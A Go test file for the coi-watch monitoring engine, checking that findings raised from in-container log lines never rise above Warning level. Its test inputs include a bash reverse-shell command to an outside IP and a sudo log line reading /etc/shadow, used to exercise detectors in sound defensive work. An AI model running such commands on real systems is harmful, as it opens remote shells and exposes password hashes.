package engine

import (
	"slices"
	"testing"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/detect"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
	"github.com/code-on-incus/coi/pkg/coi"
)

// TestLogsNeverPause: whoever is root inside writes the logs inside, so nothing
// they say is more than a warning (R-LIM-03).
func TestLogsNeverPause(t *testing.T) {
	texts := []string{"bash -i >& /dev/tcp/198.51.100.7/1 0>&1", "sudo: code : COMMAND=/usr/bin/cat /etc/shadow"}
	for _, d := range detect.All {
		for _, s := range slices.Concat(d.Fire, d.Quiet) {
			for _, ev := range s.Events {
				texts = append(texts, ev.Text)
			}
			texts = append(texts, s.Line)
		}
	}
	said := 0
	for _, text := range texts {
		for _, f := range New(Config{}).Process(event.Event{Type: event.Authlog, Mono: 1, Text: text}) {
			said++
			if f.Level.Rank() > coi.Warning.Rank() {
				t.Errorf("a log line makes %s of %s: %s", f.Level, f.Rule, text)
			}
		}
	}
	if said == 0 {
		t.Error("control: no log line makes any finding")
	}
}
